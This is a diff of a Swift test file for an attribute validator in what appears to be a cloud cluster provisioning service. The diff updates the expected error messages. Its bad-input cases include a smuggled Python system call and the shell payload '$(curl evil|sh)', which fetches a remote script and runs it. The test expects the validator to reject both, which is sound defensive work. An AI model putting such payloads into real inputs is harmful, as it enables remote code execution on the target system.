@@ -105,16 +105,16 @@ import Testing
     }
 
     @Test("bad input gets its status and a specific message", arguments: [
-        (#"icclab.disco.components.heat.slavecount="-1""#, 400, "workers: -1 is not allowed; use 0…1000"),
+        (#"icclab.disco.components.heat.slavecount="-1""#, 400, "icclab.disco.components.heat.slavecount: -1 is not allowed; use 0…1000"),
         (#"icclab.disco.components.heat.slavecount="lots""#, 400, "slavecount: lots is not a whole number"),
-        (#"icclab.disco.dependencies.inject="{'sparc': ''}""#, 400, "did you mean 'spark'?"),
+        (#"icclab.disco.dependencies.inject="{'sparc': ''}""#, 400, "icclab.disco.components.sparc: is not a known component (did you mean 'spark'?); use one of: "),
         (#"icclab.disco.dependencies.inject="__import__('os').system('id')""#, 400, "icclab.disco.dependencies.inject"),
-        (#"icclab.disco.components.heat.masterflavor="m1.lareg""#, 400, "did you mean 'm1.large'?"),
-        (#"icclab.disco.components.heat.masterflavor="m1.tiny""#, 400, "master.flavor: m1.tiny is not a flavor of this cloud"),
-        (#"icclab.disco.dependencies.inject="{'spark': ''}",icclab.disco.components.spark.executor_memory="$(curl evil|sh)""#, 400, "does not match the allowed pattern"),
+        (#"icclab.disco.components.heat.masterflavor="m1.lareg""#, 400, "icclab.disco.components.heat.masterflavor: m1.lareg is not a flavor of this cloud (did you mean 'm1.large'?); use one of: "),
+        (#"icclab.disco.components.heat.masterflavor="m1.tiny""#, 400, "icclab.disco.components.heat.masterflavor: m1.tiny is not a flavor of this cloud"),
+        (#"icclab.disco.dependencies.inject="{'spark': ''}",icclab.disco.components.spark.executor_memory="$(curl evil|sh)""#, 400, "icclab.disco.components.spark.executor_memory: $(curl evil|sh) does not match the allowed pattern"),
         (#"icclab.disco.components.jupyter.password="x""#, 400, "add 'jupyter' to icclab.disco.dependencies.inject"),
         (#"icclab.disco.component.heat.slavecount="2""#, 400, "is not a known attribute"),
-        (#"icclab.disco.components.heat.slavecount="5000""#, 400, "workers: 5000 is not allowed; use 0…1000"),
+        (#"icclab.disco.components.heat.slavecount="5000""#, 400, "icclab.disco.components.heat.slavecount: 5000 is not allowed; use 0…1000"),
         (#"icclab.disco.dependencies.inject="{'jupyter': ''}",icclab.disco.components.jupyter.password="longenough",icclab.disco.components.jupyter.version_spec=">=4"#
             + String(repeating: "0", count: 40_000) + "\"", 400, "does not match the allowed pattern"),
     ])
